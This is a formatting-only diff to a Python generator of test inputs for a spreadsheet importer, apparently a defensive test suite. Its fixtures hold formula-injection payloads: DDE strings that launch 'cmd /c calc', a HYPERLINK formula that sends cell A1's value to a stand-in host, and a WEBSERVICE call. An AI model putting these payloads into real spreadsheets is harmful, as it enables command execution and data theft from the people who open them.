@@ -15,7 +15,7 @@ __all__: list[str] = []
 _ERRORS = ("#REF!", "#N/A", "#DIV/0!", "#VALUE!", "#NAME?", "#NULL!", "#NUM!", "#SPILL!", "#CALC!")
 _COMMANDS = (
     "=cmd|'/c calc'!A0",
-    "=HYPERLINK(\"http://x.example/\"&A1,\"看\")",
+    '=HYPERLINK("http://x.example/"&A1,"看")',
     "+cmd|'/c calc'!A0",
     "-2+3+cmd|'/c calc'!A0",
     "@SUM(1+1)*cmd|'/c calc'!A0",
@@ -73,7 +73,13 @@ def _errors(material: Material, random: Random) -> Iterator[Input]:
 
 @family("有结果的公式")
 def _computed(material: Material, random: Random) -> Iterator[Input]:
-    for formula in ("SUM(B2:B3)", "ROUND(RAND()*1E5,0)", "[1]Sheet1!$A$1", "'[数据.xlsx]表'!B2", "NOW()"):
+    for formula in (
+        "SUM(B2:B3)",
+        "ROUND(RAND()*1E5,0)",
+        "[1]Sheet1!$A$1",
+        "'[数据.xlsx]表'!B2",
+        "NOW()",
+    ):
         spot = _any_day(material, random)
         yield of_cell(material, spot, formula, _formula(formula, spot.text), "right")
     spot = _any_day(material, random)
@@ -83,7 +89,9 @@ def _computed(material: Material, random: Random) -> Iterator[Input]:
     yield of_cell(material, spot, "共享公式", shared, "right")
     yield of_cell(material, spot, "文字结果", _formula('"1"&"2"', spot.text, "str"), "either")
     yield of_cell(material, spot, "结果为空文字", _formula('""', "", "str"), "refused")
-    yield of_cell(material, spot, "结果不是数", _formula("A1", "见附件", "str"), "refused", shown="见附件")
+    yield of_cell(
+        material, spot, "结果不是数", _formula("A1", "见附件", "str"), "refused", shown="见附件"
+    )
     yield of_cell(material, spot, "结果为错误", _formula("1/0", "#DIV/0!", "e"), "refused")
     yield of_cell(material, spot, "结果为布尔", _formula("1=1", "1", "b"), "refused")
     event = _event(material, random)
@@ -96,7 +104,9 @@ def _computed(material: Material, random: Random) -> Iterator[Input]:
 @family("没有结果的公式")
 def _uncomputed(material: Material, random: Random) -> Iterator[Input]:
     for formula in ("SUM(B2:B3)", "1+1", "cmd|'/c calc'!A0", 'WEBSERVICE("http://x.example")'):
-        yield of_cell(material, _any_day(material, random), formula, _formula(formula, None), "refused")
+        yield of_cell(
+            material, _any_day(material, random), formula, _formula(formula, None), "refused"
+        )
         empty = Cell(f"<f>{escape(formula)}</f><v></v>")
         yield of_cell(material, _any_day(material, random), f"{formula} 空值", empty, "refused")
     yield of_cell(material, _event(material, random), "文字列", _formula("A1", None), "refused")
